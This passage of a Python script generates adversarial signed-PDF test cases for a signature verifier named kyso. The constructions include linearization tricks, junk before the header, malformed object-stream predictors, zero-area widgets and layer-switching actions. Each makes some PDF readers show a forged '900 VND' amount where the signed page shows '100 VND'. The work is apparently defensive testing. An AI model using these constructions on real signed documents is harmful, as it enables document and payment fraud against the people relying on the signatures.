signed = sign(xs_file(plain, {10: (b'/N 1 /First %d /Filter /FlateDecode /DecodeParms 11 0 R' % FIRST,
                                   zlib.compress(row0 + row1), [8])}))
save('objstm-parms-by-reference', signed, update(signed, {11: b'<< /Predictor 10 /Columns %d >>' % C}))


def linearized(L, head=b'1 0 obj', extra=b'', lin=b'/Linearized', lkey=b'/L', long=False,
               header=b'%PDF-1.7\n%\xe2\xe3\xcf\xd3\n'):
    hidden = {
        20: b'<< /Type /Catalog /Pages 21 0 R >>',
        21: b'<< /Type /Pages /Kids [22 0 R] /Count 1 >>',
        22: b'<< /Type /Page /Parent 21 0 R /MediaBox [0 0 612 792] /Contents 23 0 R '
            b'/Resources << /Font << /F1 9 0 R >> >> >>',
        23: stream(b'BT /F1 14 Tf 50 750 Td (Le phi: 900 VND) Tj ET'),
    }
    real = {
        2: b'<< /Type /Catalog /Pages 3 0 R >>',
        3: b'<< /Type /Pages /Kids [4 0 R] /Count 1 >>',
        4: b'<< /Type /Page /Parent 3 0 R /MediaBox [0 0 612 792] /Contents 5 0 R '
           b'/Resources << /Font << /F1 9 0 R >> >> >>',
        5: stream(b'BT /F1 14 Tf 50 750 Td (Le phi: 100 VND) Tj ET'),
        9: HELV,
    }
    def section(o):
        s = b'xref\n0 1\n0000000000 65535 f \n9 1\n%010d 00000 n \n20 4\n' % o.get(9, 0)
        s += b''.join(b'%010d 00000 n \n' % o.get(n, 0) for n in range(20, 24))
        return s + b'trailer\n<< /Size 24 /Root 20 0 R >>\n'
    out = bytearray(header)
    offs = {1: len(out)} if head == b'1 0 obj' else {}
    entries = b'%s 1 %s %010d /N 1 %s >>\nendobj\n' % (lin, lkey, L, extra)
    if long:
        # The section Poppler reads after `endobj` in a string, the keys past 2,048 bytes.
        out += head + b'\n<< /P (endobj\n'
        at = len(out)
        out += section({}) + b') /Q (' + b'A' * 2100 + b') ' + entries
    else:
        out += head + b'\n<< ' + entries
        at = len(out)

    if not long:
        out += section({})
    for n, body in sorted({**hidden, **real}.items()):
        offs[n] = len(out)
        out += b'%d 0 obj\n' % n + body + b'\nendobj\n'
    out[at:at + len(section(offs))] = section(offs)
    x = len(out)
    out += b'xref\n0 24\n0000000000 65535 f \n'
    out += b''.join((b'%010d 00000 n \n' % offs[n]) if n in offs else b'0000000000 00000 f \n'
                    for n in range(1, 24))
    return bytes(out + b'trailer\n<< /Size 24 /Root 2 0 R %s >>\nstartxref\n%d\n%%%%EOF\n' % (IDS, x))


for name, head, extra, kw in [
        ('linearized-length', b'1 0 obj', b'', {}),
        # Found reading that fix: a first object kyso's parser refuses (Poppler's reads on):
        # a header `-1 0 obj`, an entry kyso refuses.
        ('linearized-negative-header', b'-1 0 obj', b'', {}),
        ('linearized-refused-entry', b'1 0 obj', b'/X 99999999999999999999', {}),
        # And reading the next fix (2026-12-03): names Poppler cuts at a decoded NUL, the
        # keys past the first 2,048 bytes kyso scanned.
        ('linearized-nul-name', b'1 0 obj', b'', {'lin': b'/Linearized#00x'}),
        ('linearized-nul-length', b'1 0 obj', b'', {'lkey': b'/L#00'}),
        ('linearized-long-dictionary', b'1 0 obj', b'', {'long': True}),
        # And reading that fix: `<<` in a comment before the first object (the header line
        # is one) ended kyso's scan early; `#` with one hex digit takes the next byte in
        # Poppler (`/L#0G` is "L" and a NUL).
        ('linearized-comment-dictionary', b'1 0 obj', b'', {'header': b'%PDF-1.7\n%<<>>\n'}),
        ('linearized-one-digit-escape', b'1 0 obj', b'', {'lkey': b'/L#0G'}),
        # And reading that: the escape swallows a delimiter (`/V#0>>` closes nothing).
        ('linearized-escape-eats-delimiter', b'1 0 obj', b'', {'lin': b'/Linearized 1 /K /V#0>> /Z'}),
        # And reading that: `>>` as a value (`/X >> /L …` is one dictionary to Poppler).
        ('linearized-gt-as-value', b'1 0 obj', b'', {'lin': b'/Linearized 1 /X >> /Y'})]:
    L = len(sign(linearized(9999999999, head, extra, **kw))) + 64
    signed = sign(linearized(L, head, extra, **kw))
    assert len(signed) + 64 == L
    save(name, signed, signed + b' ' * 63 + b'\n')


# Junk before `%PDF-` (found by an attacker's reading, 2026-12-03): Poppler counts offsets from
# the header, MuPDF rebuilds, kyso counted from byte 0. The signer's file: J bytes, then a PDF
# whose table (offsets from byte 0) places object 4 (100 VND) after an unlisted `4 0 obj`
# (900 VND); both readers rebuild it and, the last header winning, show 100. After signing, a
# cross-reference stream section (read by kyso at startxref X) whose dictionary holds, J bytes
# in, a string with a classic section counting from the header: Poppler reads it at X + J and
# takes object 4 from the planted header.
def junk_dual(J, fill):
    import pyhanko.pdf_utils.reader as R
    header = R._read_header_version
    R._read_header_version = lambda stream: (1, 7)  # pyHanko refuses junk before the header
    try:
        objs = page_of(b'BT /F1 14 Tf 50 750 Td (Le phi: 100 VND) Tj ET')
        out = bytearray(fill * (J - 1) + b'\n' + b'%PDF-1.7\n%\xe2\xe3\xcf\xd3\n')
        offs, planted = {}, None
        for n in sorted(objs):
            if n == 4:
                planted = len(out)
                out += b'4 0 obj\n' + stream(b'BT /F1 14 Tf 50 750 Td (Le phi: 900 VND) Tj ET') + b'\nendobj\n'
            offs[n] = len(out)
            out += b'%d 0 obj\n' % n + objs[n] + b'\nendobj\n'
        size, x = max(objs) + 1, len(out)
        out += b'xref\n0 %d\n0000000000 65535 f \n' % size
        out += b''.join((b'%010d 00000 n \n' % offs[n]) if n in offs else b'0000000000 00000 f \n'
                        for n in range(1, size))
        out += b'trailer\n<< /Size %d /Root 1 0 R %s >>\nstartxref\n%d\n%%%%EOF\n' % (size, IDS, x)
        signed = sign(bytes(out))
    finally:
        R._read_header_version = header
    last = {int(m.group(1)): m.start() for m in re.finditer(rb'(?m)^(\d+) 0 obj', signed)}
    last[4] = planted
    prev, M = last_xref(signed)
    M = max(int(v) for v in re.findall(rb'/Size (\d+)', signed))
    X = len(signed)
    sec = b'xref\n0 %d\n0000000000 65535 f \n' % M
    sec += b''.join((b'%010d 00000 n \n' % (last[n] - J)) if n in last else b'0000000000 00000 f \n'
                    for n in range(1, M))
    sec += b'trailer\n<< /Size %d /Root 1 0 R %s >>\n' % (M, IDS)
    pre = b'%d 0 obj\n<< /Type /XRef /Size %d /W [1 4 2] /Index [%d 1] /Prev %d /Root 1 0 R %s /Length 7 /Pad' % (
        M, M + 1, M, prev, IDS)
    head = pre + b' ' * (J - 1 - len(pre)) + b'('
    assert len(head) == J
    row = bytes([1]) + X.to_bytes(4, 'big') + (0).to_bytes(2, 'big')
    return signed, signed + head + sec + b') >>\nstream\n' + row + b'\nendstream\nendobj\nstartxref\n%d\n%%%%EOF\n' % X


for name, fill in [('junk-before-header', b'X'), ('blank-lines-before-header', b'\n')]:
    save(name, *junk_dual(200, fill))


# An invisible signature field added after an approval signature whose widget switches the
# signed page's layers when the page opens (/AA /PO SetOCGState): the page draws "100 VND" in
# layer A (on) and "900 VND" in layer B (off); a viewer running the action shows 900 (found
# by an attacker's reading, 2026-12-03; Poppler and MuPDF run no such action).
def layered_action():
    from pyhanko.pdf_utils import generic as g
    from pyhanko.pdf_utils.incremental_writer import IncrementalPdfFileWriter
    objs = page_of(b'/OC /A BDC BT /F1 14 Tf 50 750 Td (Le phi: 100 VND) Tj ET EMC '
                   b'/OC /B BDC BT /F1 14 Tf 50 730 Td (Le phi: 900 VND) Tj ET EMC',
                   {20: b'<< /Type /OCG /Name (A) >>', 21: b'<< /Type /OCG /Name (B) >>'})
    objs[1] = (b'<< /Type /Catalog /Pages 2 0 R /OCProperties << /OCGs [20 0 R 21 0 R] '
               b'/D << /ON [20 0 R] /OFF [21 0 R] >> >> >>')
    objs[3] = objs[3].replace(b'/Font << /F1 9 0 R >>', b'/Font << /F1 9 0 R >> /Properties << /A 20 0 R /B 21 0 R >>')
    signed = sign(build(objs))
    w = IncrementalPdfFileWriter(io.BytesIO(signed))
    pg = w.root['/Pages']['/Kids'][0]
    n = g.NameObject
    act = g.DictionaryObject({n('/S'): n('/SetOCGState'), n('/State'): g.ArrayObject(
        [n('/OFF'), g.IndirectObject(20, 0, w), n('/ON'), g.IndirectObject(21, 0, w)])})
    wid = w.add_object(g.DictionaryObject({
        n('/Type'): n('/Annot'), n('/Subtype'): n('/Widget'), n('/FT'): n('/Sig'),
        n('/T'): g.pdf_string('Sig2'), n('/Rect'): g.ArrayObject([g.NumberObject(0)] * 4),
        n('/F'): g.NumberObject(132), n('/P'): w.root['/Pages'].raw_get('/Kids')[0],
        n('/AA'): g.DictionaryObject({n('/PO'): act})}))
    annots = pg.get('/Annots', g.ArrayObject())
    annots.append(wid)
    pg['/Annots'] = annots
    w.update_container(pg)
    form = w.root['/AcroForm']
    form['/Fields'].append(wid)
    w.update_container(form)
    out = io.BytesIO()
    w.write(out)
    return signed, out.getvalue()


save('signature-widget-action', *layered_action())


# An object stream whose PNG-predicted data ends in an incomplete row, added after signing:
# the signed page's height is `7 0 R` (792; the forged "900 VND" drawn at y = 5000, off the
# page); the update rewrites object 7 in an object stream whose rows are `7 0 792` and a last
# row of one byte, `0`. kyso dropped that row and read 792, unchanged; MuPDF reads the row as
# far as it goes (7920) and Poppler completes it from the row before (also 7920): the page
# grows, and "900 VND" is on it (found reading the predictor's decoder, 2026-12-03).
def partial_row():
    objs = page_of(b'BT /F1 14 Tf 50 750 Td (Le phi: 100 VND) Tj ET '
                   b'BT /F1 14 Tf 50 5000 Td (Le phi: 900 VND) Tj ET', {7: b'792'})
    objs[3] = objs[3].replace(b'/MediaBox [0 0 612 792]', b'/MediaBox [0 0 612 7 0 R]')
    signed = sign(build(objs))
    rows = b'7 0 792', b'0'
    data = zlib.compress(b''.join(b'\x00' + r for r in rows))
    size = last_xref(signed)[1]
    objstm = (b'<< /Type /ObjStm /N 1 /First 4 /Filter /FlateDecode /DecodeParms '
              b'<< /Predictor 12 /Columns %d >> /Length %d >>\nstream\n' % (len(rows[0]), len(data))
              + data + b'\nendstream')
    return signed, append_xref_stream(signed, [(size, objstm)], {7: (2, size, 0)},
                                      b'/Root 1 0 R', size + 1)


save('objstm-partial-row', *partial_row())



# ... and the rest of the structural decoder read otherwise (found by an attacker's reading of
# it, 2026-12-03): the same tall page, object 7 rewritten after signing in an object stream
# kyso decoded to 792 and Poppler and/or MuPDF to 7920 or 9792. Most rows are one PNG row
# (type 0) `7 0  9792` with /First 6: 792 to a reader applying the predictor, and to one that
# applies none `\0` + the row, whose member begins a byte earlier: 9792.
def decoder_cases():
    TALL = (b'BT /F1 14 Tf 50 750 Td (Le phi: 100 VND) Tj ET '
            b'BT /F1 14 Tf 50 5000 Td (Le phi: 900 VND) Tj ET')
    objs = page_of(TALL, {7: b'792'})
    objs[3] = objs[3].replace(b'/MediaBox [0 0 612 792]', b'/MediaBox [0 0 612 7 0 R]')
    signed = sign(build(objs))
    size = last_xref(signed)[1]

    def objstm(decoded, first, parms, z=None):
        z = z if z is not None else zlib.compress(decoded)
        st = (b'<< /Type /ObjStm /N 1 /First %d %s /Length %d >>\nstream\n' % (first, parms, len(z))
              + z + b'\nendstream')
        return append_xref_stream(signed, [(size, st)], {7: (2, size, 0)}, b'/Root 1 0 R', size + 1)

    row = b'7 0  9792'
    one = b'\x00' + row
    n = len(row)
    yield 'dp-dict-with-filter-array', signed, objstm(
        one, 6, b'/Filter [/FlateDecode] /DecodeParms << /Predictor 12 /Columns %d >>' % n)
    yield 'dp-array-with-filter-name', signed, objstm(
        one, 6, b'/Filter /FlateDecode /DecodeParms [<< /Predictor 12 /Columns %d >>]' % n)
    yield 'predictor-16', signed, objstm(
        one, 6, b'/Filter /FlateDecode /DecodeParms << /Predictor 16 /Columns %d >>' % n)
    ten = b'\x00' + b'7 0  9792 '
    yield 'bpc-32', signed, objstm(
        ten, 6, b'/Filter /FlateDecode /DecodeParms << /Predictor 12 /BitsPerComponent 32 /Columns 5 >>')
    yield 'colors-33', signed, objstm(
        b'\x00' + row.ljust(32), 6, b'/Filter /FlateDecode /DecodeParms << /Predictor 12 /Colors 33 /Columns 1 >>')
    a, b = b'7 0'.ljust(16), b' 9792'.ljust(16)
    yield 'bpc-0', signed, objstm(
        b'\x00' + a + b'\x00' + b, 18,
        b'/Filter /FlateDecode /DecodeParms << /Predictor 12 /BitsPerComponent 0 /Columns 128 >>')
    # Readers take /DP for /DecodeParms.
    yield 'dp-abbreviation', signed, objstm(
        b'\x00' + b'7 0 792' + b'\x00' + b'0'.ljust(7), 4, b'/Filter /FlateDecode /DP << /Predictor 12 /Columns 7 >>')
    # /Columns 2^20 + 1: kyso clamped to 2^20, whole rows to it, a partial last row to readers.
    k = 1 << 20
    yield 'columns-past-2-20', signed, objstm(
        b'\x00' + b'7 0'.ljust(k - 1) + b'0' + b'\x00' + b'\x00' + b' ' * (k - 4) + b'792', 2 * k - 3,
        b'/Filter /FlateDecode /DecodeParms << /Predictor 12 /Columns %d >>' % (k + 1))
    # A bad Adler-32: flate2 drops the bytes of the read that reports it (the last "0").
    dec = b'7 0 ' + b' ' * (32769 - 8) + b'7920'
    z = bytearray(zlib.compress(dec))
    z[-1] ^= 1
    yield 'bad-adler-32', signed, objstm(None, 4, b'/Filter /FlateDecode', z=bytes(z))
    # /Columns 0: kyso and MuPDF took 1, Poppler no predictor, each byte apart: its object 7
    # is [0 0 5 0 R 6 0 R], objects 5 and 6 added beside and used by nothing kyso reads.
    objs = page_of(TALL, {7: b'[0 0 612 792]'})
    objs[3] = objs[3].replace(b'/MediaBox [0 0 612 792]', b'/MediaBox 7 0 R')
    s2 = sign(build(objs))
    sz = last_xref(s2)[1]
    pop = b'[005 0R60R]'
    first = 8 + 2 * len(pop)
    dk = (b'7 0 ' + b' ' * (first // 2 - 4) + pop).ljust(first) + b'[0 0 612 792]'
    raw = zlib.compress(b''.join(b'\x00' + bytes([c]) for c in dk))
    st = (b'<< /Type /ObjStm /N 1 /First %d /Filter /FlateDecode /DecodeParms << /Predictor 12 '
          b'/Columns 0 >> /Length %d >>\nstream\n' % (first, len(raw)) + raw + b'\nendstream')
    yield 'columns-0', s2, append_xref_stream(s2, [(5, b'612'), (6, b'7920'), (sz, st)], {7: (2, sz, 0)},
                                              b'/Root 1 0 R', sz + 1)
    # /First inside the index: Poppler reads the index within /First bytes, cannot load the
    # stream and takes the default page, showing what the signed 300-point page hid.
    objs = page_of(b'BT /F1 14 Tf 50 250 Td (Le phi: 100 VND) Tj ET '
                   b'BT /F1 14 Tf 50 500 Td (Le phi: 900 VND) Tj ET', {7: b'300'})
    objs[3] = objs[3].replace(b'/MediaBox [0 0 612 792]', b'/MediaBox [0 0 612 7 0 R]')
    s3 = sign(build(objs))
    sz = last_xref(s3)[1]
    z = zlib.compress(b'7 2 300')
    st = b'<< /Type /ObjStm /N 1 /First 2 /Filter /FlateDecode /Length %d >>\nstream\n' % len(z) + z + b'\nendstream'
    yield 'first-inside-index', s3, append_xref_stream(s3, [(sz, st)], {7: (2, sz, 0)}, b'/Root 1 0 R', sz + 1)


for name, signed_rev, final in decoder_cases():
    save(name, signed_rev, final)


# 12. Found by an attacker's reading of the signature widget (2026-12-04): the preparer's file
#     (pikepdf, object streams) holds an empty signature field SigA whose widget draws "Signed
#     by A: APPROVED 900,000 VND"; a plain update (pyHanko's incremental writer) blanks that
#     appearance, and, for `prepared-widget-moved`, moves the widget; A signs SigA (pyHanko,
#     its stamp), then pyHanko signs again invisibly. A reader rebuilding the table takes the
#     object stream's version of the widget (MuPDF showed A's field unsigned, or where the
#     earlier /Rect put it): kyso dropped that version as "what signing adds" without a word.
def prepared_widget(name, first_rect):
    import pikepdf
    from pikepdf import Array, Dictionary, Name
    from pyhanko import stamp
    from pyhanko.sign import signers
    from pyhanko.sign.fields import SigSeedSubFilter
    pdf = pikepdf.new()
    font = pdf.make_indirect(Dictionary(Type=Name.Font, Subtype=Name.Type1, BaseFont=Name.Helvetica))
    page = Dictionary(Type=Name.Page, MediaBox=[0, 0, 612, 792], Resources=Dictionary(Font=Dictionary(F1=font)),
                      Contents=pdf.make_stream(b'BT /F1 18 Tf 72 720 Td (Hop dong: 100 VND) Tj ET'))
    pdf.pages.append(pikepdf.Page(page))
    pg = pdf.pages[0].obj
    drawn = pdf.make_stream(b'BT /F1 10 Tf 10 25 Td (Signed by A: APPROVED 900,000 VND) Tj ET',
                            Type=Name.XObject, Subtype=Name.Form, BBox=[0, 0, 228, 60],
                            Resources=Dictionary(Font=Dictionary(F1=font)))
    w = pdf.make_indirect(Dictionary(Type=Name.Annot, Subtype=Name.Widget, FT=Name.Sig, T=pikepdf.String('SigA'),
                                     F=4, Rect=first_rect, P=pg, AP=Dictionary(N=drawn)))
    pg.Annots = pdf.make_indirect(Array([w]))
    pdf.Root.AcroForm = pdf.make_indirect(Dictionary(Fields=Array([w]), SigFlags=0))
    first = io.BytesIO()
    pdf.save(first, object_stream_mode=pikepdf.ObjectStreamMode.generate, compress_streams=False)

    def blank(wr):
        wd = wr.root['/AcroForm']['/Fields'][0].get_object()
        st = pdf_generic.StreamObject({
            pdf_generic.NameObject('/Type'): pdf_generic.NameObject('/XObject'),
            pdf_generic.NameObject('/Subtype'): pdf_generic.NameObject('/Form'),
            pdf_generic.NameObject('/BBox'): wd['/AP']['/N']['/BBox']}, stream_data=b'')
        wd[pdf_generic.NameObject('/AP')] = pdf_generic.DictionaryObject({pdf_generic.NameObject('/N'): wr.add_object(st)})
        wd[pdf_generic.NameObject('/Rect')] = pdf_generic.ArrayObject(
            [pdf_generic.NumberObject(x) for x in (72, 600, 300, 660)])
        wr.update_container(wd)

    prepared = edited(first.getvalue(), blank)
    s = signers.SimpleSigner.load(os.path.join(D, 'signer.key'), os.path.join(D, 'signer.pem'),
                                  ca_chain_files=(os.path.join(D, 'root.pem'),))
    out = io.BytesIO()
    signers.PdfSigner(signers.PdfSignatureMetadata(field_name='SigA', subfilter=SigSeedSubFilter.PADES), signer=s,
                      stamp_style=stamp.TextStampStyle(stamp_text='Signed by A: 100 VND')).sign_pdf(
        IncrementalPdfFileWriter(io.BytesIO(prepared), strict=False), output=out)
    save(name, out.getvalue(), resign(out.getvalue(), 'Sig2'))


prepared_widget('prepared-widget', [72, 600, 300, 660])
prepared_widget('prepared-widget-moved', [72, 500, 300, 560])


# 13. Found by a seventh attacker's reading of the reader-difference model (helper 220,
#     2026-12-06): the signer's file keeps the page font's encoding (`/Differences [57 /one]`,
#     which draws the page's "900" as "100") as the second member of an uncompressed object
#     stream whose /Length is `9 0 R`, with the text `endstream` in its data before that
#     member; after signing, an update rewrites only object 9, shorter, ending the stream at
#     that inner `endstream`. Poppler, MuPDF and Ghostscript lose the member and draw "900";
#     kyso compared the members' and the stream's entries only: TOTAL-PASSED.
#     `objstm-length-two-levels` (helper 222, reading that fix): object 9 is itself kept in an
#     object stream 20 whose /Length is `21 0 R`, and only 21 is rewritten, shorter: 20 loses
#     9, and 10 its length.
def objstm_length(name, two_levels):
    enc = b'<< /Type /Encoding /BaseEncoding /WinAnsiEncoding /Differences [57 /one] >>'
    mid = b'(pad)\nendstream\n'
    index = (b'11 0 7 %d' % len(mid)).ljust(16)
    data = index + mid + enc
    index2 = (b'22 0 9 %d' % len(mid)).ljust(16)
    data2 = index2 + mid + b'%d' % len(data)
    out = bytearray(b'%PDF-1.7\n%\xe2\xe3\xcf\xd3\n')
    ent = {0: (0, 0, 65535)}

    def obj(n, body):
        ent[n] = (1, len(out), 0)
        out.extend(b'%d 0 obj\n' % n + body + b'\nendobj\n')
    obj(1, b'<< /Type /Catalog /Pages 2 0 R >>')
    obj(2, b'<< /Type /Pages /Kids [3 0 R] /Count 1 >>')
    obj(3, b'<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R '
           b'/Resources << /Font << /F1 5 0 R >> >> >>')
    obj(4, stream(b'BT /F1 20 Tf 60 700 Td (So tien: 900 VND) Tj ET'))
    obj(5, b'<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica /Encoding 7 0 R >>')
    if two_levels:
        obj(21, b'%d' % len(data2))
        obj(20, b'<< /Type /ObjStm /N 2 /First 16 /Length 21 0 R >>\nstream\n' + data2 + b'\nendstream')
        ent[22], ent[9] = (2, 20, 0), (2, 20, 1)
    else:
        obj(9, b'%d' % len(data))
    obj(10, b'<< /Type /ObjStm /N 2 /First 16 /Length 9 0 R >>\nstream\n' + data + b'\nendstream')
    ent[11], ent[7] = (2, 10, 0), (2, 10, 1)
    x = len(out)
    ent[12] = (1, x, 0)
    rows = b''.join(bytes([t]) + a.to_bytes(4, 'big') + g.to_bytes(2, 'big')
                    for t, a, g in (ent.get(i, (0, 0, 0)) for i in range(23)))
    out += (b'12 0 obj\n<< /Type /XRef /Size 23 /W [1 4 2] /Root 1 0 R %s /Length %d >>\nstream\n'
            % (IDS, len(rows)) + rows + b'\nendstream\nendobj\nstartxref\n%d\n%%%%EOF\n' % x)
    signed = sign(bytes(out))
    size = last_xref(signed)[1]
    shorter = len(index) + len(b'(pad)')
    rewritten = (21, b'%d' % (len(index2) + len(b'(pad)'))) if two_levels else (9, b'%d' % shorter)
    save(name, signed, append_xref_stream(signed, [rewritten], {}, b'/Root 1 0 R ' + IDS, size))


objstm_length('objstm-indirect-length', False)
objstm_length('objstm-length-two-levels', True)


# 14. Found by an eighth attacker's reading (helper 224, 2026-12-06): kyso took a /Rect with no
#     area for hidden; Ghostscript 10.00 (pdfi) draws an appearance there at its /BBox's size,
#     and a text field's value from /DA and the /DR font, unclipped, at the /Rect's corner.
#     (`zero-rect`, an unsigned signature field added after signing, is in case 3's list.)
def zero_rect_timestamp(name, appearance):
    from cryptography.x509.oid import ExtendedKeyUsageOID
    from pyhanko.keys import load_cert_from_pemder, load_private_key_from_pemder
    from pyhanko.pdf_utils.incremental_writer import IncrementalPdfFileWriter
    from pyhanko.sign import signers, timestamps
    from pyhanko.sign.fields import MDPPerm
    tk = rsa.generate_private_key(public_exponent=65537, key_size=2048)
    tc = (x509.CertificateBuilder().subject_name(x509.Name([x509.NameAttribute(NameOID.COMMON_NAME, 'Differentials TSA')]))
          .issuer_name(rn).public_key(tk.public_key()).serial_number(x509.random_serial_number())
          .not_valid_before(NOW - dt.timedelta(days=1)).not_valid_after(NOW + dt.timedelta(days=365))
          .add_extension(x509.BasicConstraints(ca=False, path_length=None), critical=True)
          .add_extension(x509.ExtendedKeyUsage([ExtendedKeyUsageOID.TIME_STAMPING]), critical=True)
          .sign(rk, hashes.SHA256()))
    open(os.path.join(D, 'tsa.pem'), 'wb').write(tc.public_bytes(serialization.Encoding.PEM))
    open(os.path.join(D, 'tsa.key'), 'wb').write(tk.private_bytes(
        serialization.Encoding.PEM, serialization.PrivateFormat.PKCS8, serialization.NoEncryption()))
    stamper = timestamps.DummyTimeStamper(tsa_cert=load_cert_from_pemder(os.path.join(D, 'tsa.pem')),
                                          tsa_key=load_private_key_from_pemder(os.path.join(D, 'tsa.key'), None))
    certified = certify(build(page3), MDPPerm.NO_CHANGES)
    # The time-stamp's field, added first with a /Rect of no area and "DAT" as its appearance.
    _, size = last_xref(certified)
    w, ap = size, size + 1
    acro_n, form = with_field(certified, w)
    objs = {
        w: b'<< /Type /Annot /Subtype /Widget /FT /Sig /T (TS) /F 4 /Rect [40 680 40 680] /P 3 0 R '
           b'/AP << /N %d 0 R >> >>' % ap,
        ap: appearance,
        3: with_annot(raw(certified, 3), w),
        acro_n: form,
    }
    out = io.BytesIO()
    # pyHanko sets /Info /ModDate at every update: a second later, it differs from the
    # certification's (kyso failed the time-stamp for it whenever the two seconds differed).
    time.sleep(1.1)
    signers.PdfTimeStamper(stamper, field_name='TS').timestamp_pdf(
        IncrementalPdfFileWriter(io.BytesIO(update(certified, objs)), strict=False), 'sha256', output=out)
    save(name, certified, out.getvalue())


zero_rect_timestamp('zero-rect-timestamp', DRAWN)
# Honest: an invisible time-stamp's empty appearance stored Flate-compressed (the bytes some
# signing libraries write; helper 225): it draws nothing, and P=1 admits the time-stamp.
zero_rect_timestamp('flate-empty-timestamp',
                    b'<< /Type /XObject /Subtype /Form /BBox [0 0 0 0] /Filter /FlateDecode /Length 8 >>\n'
                    b'stream\n\x78\x9c\x03\x00\x00\x00\x00\x01\nendstream')


# A /Rect of no area and an appearance named by a reference of another generation than the
# table's: kyso read no appearance, Ghostscript ignores generations and draws it (helper 225).
def other_generation():
    signed = sign(build(page3))
    _, size = last_xref(signed)
    w, f, ap = size, size + 1, size + 2
    acro_n, form = with_field(signed, f)
    objs = {
        w: b'<< /Type /Annot /Subtype /Widget /Rect [40 680 40 680] /F 4 /P 3 0 R /Parent %d 0 R '
           b'/AP << /N %d 1 R >> >>' % (f, ap),
        f: b'<< /FT /Sig /T (Sig2) /Kids [%d 0 R] >>' % w,
        ap: DRAWN,
        3: with_annot(raw(signed, 3), w),
        acro_n: form,
    }
    save('zero-rect-other-generation', signed, update(signed, objs))


other_generation()


# Under DocMDP P=3, a FreeText annotation of no area and no appearance added after signing:
# readers draw it from its /Contents and /DA wherever its /Rect is, so kyso says it was added
# (it said nothing; helper 225).
def annotated_zero_rect():
    from pyhanko.sign.fields import MDPPerm
    certified = certify(build(page3), MDPPerm.ANNOTATE)
    _, size = last_xref(certified)
    note = (b'<< /Type /Annot /Subtype /FreeText /Rect [60 700 60 700] /F 4 /P 3 0 R '
            b'/Contents (Ket qua: DAT) /DA (/Helv 16 Tf 0 g) >>')
    save('annotated-zero-rect', certified, update(certified, {size: note, 3: with_annot(raw(certified, 3), size)}))


annotated_zero_rect()


def empty_field_appearance():
    from pyhanko.pdf_utils.incremental_writer import IncrementalPdfFileWriter
    from pyhanko.sign.fields import SigFieldSpec, append_signature_field
    w = IncrementalPdfFileWriter(io.BytesIO(build(page3)), strict=False)
    append_signature_field(w, SigFieldSpec('Signer2'))  # invisible: /Rect [0 0 0 0]
    prepared = io.BytesIO()
    w.write(prepared)
    signed = sign(prepared.getvalue())
    n = next(int(m.group(1)) for m in re.finditer(rb'\n(\d+) 0 obj', signed)
             if b'/T (Signer2)' in raw(signed, int(m.group(1))))
    body = raw(signed, n)
    assert b'/AP' not in body and re.search(rb'/Rect \[ ?0 0 0 0 ?\]', body), body
    _, size = last_xref(signed)
    over = stream(b'1 g 40 680 520 50 re f BT 0 g /F1 16 Tf 60 700 Td (Ket qua: DAT - da duyet) Tj ET',
                  b'/Type /XObject /Subtype /Form /BBox [0 0 595 842] /Resources << /Font << /F1 5 0 R >> >> ')
    given = body.rstrip()[:-2] + b' /AP << /N %d 0 R >> >>' % size
    save('empty-field-appearance', signed, update(signed, {n: given, size: over}))


empty_field_appearance()

zero_text = {
    1: b'<< /Type /Catalog /Pages 2 0 R /AcroForm 7 0 R >>',
    2: b'<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
    3: b'<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R '
       b'/Resources << /Font << /F1 5 0 R >> >> /Annots [6 0 R] >>',
    4: stream(b'BT /F1 16 Tf 60 800 Td (Hop dong so 7) Tj ET'),
    5: HELV,
    6: b'<< /Type /Annot /Subtype /Widget /FT /Tx /T (amount) /V (So tien: 100 VND) /F 4 '
       b'/Rect [58 740 58 740] /P 3 0 R /DA (/Helv 24 Tf 0 g) >>',
    7: b'<< /Fields [6 0 R] /DR << /Font << /Helv 8 0 R >> >> /DA (/Helv 24 Tf 0 g) >>',
    8: HELV,
}
signed = sign(build(zero_text))
save('zero-rect-text-dr', signed, update(signed, {8: b'<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica '
                                                  b'/Encoding << /Type /Encoding /BaseEncoding /WinAnsiEncoding '
                                                  b'/Differences [49 /nine] >> >>'}))


# 15. Found by a tenth attacker's reading (helper 226, 2026-12-06).
def kept_need_appearances(sign_with, pdf):
    """`pdf` signed by `sign_with` with the form's /NeedAppearances kept, as Acrobat and kyso
    keep it (pyHanko drops it when it signs: told here not to)."""
    from pyhanko.sign import fields
    from pyhanko.sign.signers import cms_embedder
    drop = cms_embedder.ensure_sig_flags
    cms_embedder.ensure_sig_flags = lambda writer, lock_sig_flags=True: fields.ensure_sig_flags(writer, False)
    try:
        return sign_with(pdf)
    finally:
        cms_embedder.ensure_sig_flags = drop


need = dict(page3)
need[1] = b'<< /Type /Catalog /Pages 2 0 R /AcroForm 6 0 R >>'
need[6] = b'<< /Fields [] /NeedAppearances true /DA (/Helv 16 Tf 0 g) /DR << /Font << /Helv 5 0 R >> >> >>'
BLANK = stream(b' ', b'/Type /XObject /Subtype /Form /BBox [0 0 520 50] ')


def added_sig_widget(signed, widget, extra):
    """`signed` updated with an unsigned signature field whose one widget is `widget` (its
    `%(F)d` the field, `%(X)d` the first of the `extra` objects, numbered after it)."""
    _, size = last_xref(signed)
    w, f = size, size + 1
    objs = {w: widget % {b'F': f, b'X': size + 2}, f: b'<< /FT /Sig /T (Sig2) /Kids [%d 0 R] >>' % w}
    for i, body in enumerate(extra):
        objs[size + 2 + i] = body
    objs[3] = with_annot(raw(signed, 3), w)
    acro_n, form = with_field(signed, f)
    objs[acro_n] = form
    return update(signed, objs)


# /NeedAppearances kept in the signed form: Poppler draws each widget itself, filling its /MK
# background over the signed text, whatever its appearance stream (empty, to kyso: nothing).
signed = kept_need_appearances(sign, build(need))
assert b'/NeedAppearances true' in signed[signed.rindex(b'%%EOF', 0, len(signed) - 6):]
save('need-appearances-mk', signed, added_sig_widget(
    signed, b'<< /Type /Annot /Subtype /Widget /Rect [40 680 560 730] /F 4 /P 3 0 R /Parent %(F)d 0 R '
            b'/MK << /BG [1] >> /AP << /N %(X)d 0 R >> >>', [BLANK]))
# ... and a text widget of no field under a P=3 certification: its /V shown by Poppler, PDFium
# and pdf.js. Permitted, and said added.
